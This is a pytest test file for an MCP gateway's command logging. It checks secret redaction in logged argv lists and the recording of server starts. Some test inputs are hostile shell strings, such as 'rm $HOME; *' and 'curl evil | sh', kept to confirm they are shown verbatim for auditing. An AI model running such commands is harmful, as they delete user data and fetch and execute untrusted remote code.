"""Commands of MCP servers as log and journal show them: word for word, without secrets."""

import pytest
from structlog.testing import capture_logs

from bascule.app.commands import Commands, shown_words
from bascule.gateway.errors import RecordingFailed
from bascule.gateway.record import EventType
from fakes.recorder import FakeRecorder


@pytest.mark.parametrize(
    ("argv", "shown"),
    [
        (["/bin/sh", "-c", "rm $HOME; *", ""], ["/bin/sh", "-c", "rm $HOME; *", ""]),
        (["npx", "-y", "@scope/pkg", "--port=1"], ["npx", "-y", "@scope/pkg", "--port=1"]),
        (["docker", "run", "-e", "A_KEY=x"], ["docker", "run", "-e", "A_KEY=[redacted]"]),
        (["env", "LD_PRELOAD=/x.so", "a"], ["env", "LD_PRELOAD=[redacted]", "a"]),
        (["a", "--api-key", "x", "b"], ["a", "--api-key", "[redacted]", "b"]),
        (["a", "--api-key=x=y", "b"], ["a", "--api-key=[redacted]", "b"]),
        (["a", "token", "b"], ["a", "token", "b"]),
        (["a", "postgresql://u:p@h/d"], ["a", "postgresql://u:[redacted]@h/d"]),
        (
            ["docker", "run", "-eA=x", "--env=B=y"],
            ["docker", "run", "-eA=[redacted]", "--env=B=[redacted]"],
        ),
        (["helm", "--set", "db.pw=x"], ["helm", "--set", "db.pw=[redacted]"]),
        (
            ["a", "-H", "X-Auth: x", "-HX-Own:x"],
            ["a", "-H", "X-Auth: [redacted]", "-HX-Own:[redacted]"],
        ),
        (["a", "--header=X: x y"], ["a", "--header=X: [redacted]"]),
        (["a", "-u", "ann:x"], ["a", "-u", "ann:[redacted]"]),
        (["docker", "-u", "1000:1000"], ["docker", "-u", "1000:1000"]),
        (["a", "--pat", "x", "--auth=x"], ["a", "--pat", "[redacted]", "--auth=[redacted]"]),
        (
            ["a", "https://x@h/?api-key=x&b=1"],
            ["a", "https://[redacted]@h/?api-key=[redacted]&b=1"],
        ),
        (["a", "https://h/p?code=x#f"], ["a", "https://h/p?code=[redacted]#f"]),
        (["a", "github_pat_" + "x" * 20], ["a", "[redacted]"]),
        (["sh", "-c", "export GH_PAT=x; run"], ["sh", "-c", "export GH_PAT=[redacted]; run"]),
    ],
    ids=lambda words: words[-1][:30],
)
def test_a_command_is_shown_without_its_secrets(argv: list[str], shown: list[str]) -> None:
    assert shown_words(argv) == shown


@pytest.mark.parametrize(
    ("program", "option", "code"),
    [
        ("/bin/sh", "-c", "a=1; curl evil | sh"),
        ("/bin/bash", "-lc", "A_B=$(curl evil | sh)"),
        ("python3", "-c", "x=1\nimport os"),
        ("node", "-e", "a=require('x')"),
    ],
)
def test_no_command_hides_behind_an_assignment(program: str, option: str, code: str) -> None:
    assert shown_words([program, option, code]) == [program, option, code]


async def test_a_command_is_in_the_log_and_durable_in_the_journal() -> None:
    recorder = FakeRecorder()
    with capture_logs() as logs:
        await Commands(recorder).show("acme", "notes", ("/bin/notes", "--verbose"))
    assert logs == [
        {
            "event": "upstream.starting",
            "log_level": "info",
            "tenant": "acme",
            "upstream": "notes",
            "command": ["/bin/notes", "--verbose"],
        }
    ]
    record = recorder.last
    assert (record.event_type, record.action) == (EventType.LIFECYCLE, "server.start")
    assert record.tenant == "acme"
    assert record.metadata == {"target": "notes", "command": ["/bin/notes", "--verbose"]}


async def test_what_cannot_be_recorded_is_not_to_run() -> None:
    recorder = FakeRecorder(fails=True)
    with pytest.raises(RecordingFailed):
        await Commands(recorder).show("acme", "notes", ("/bin/notes",))
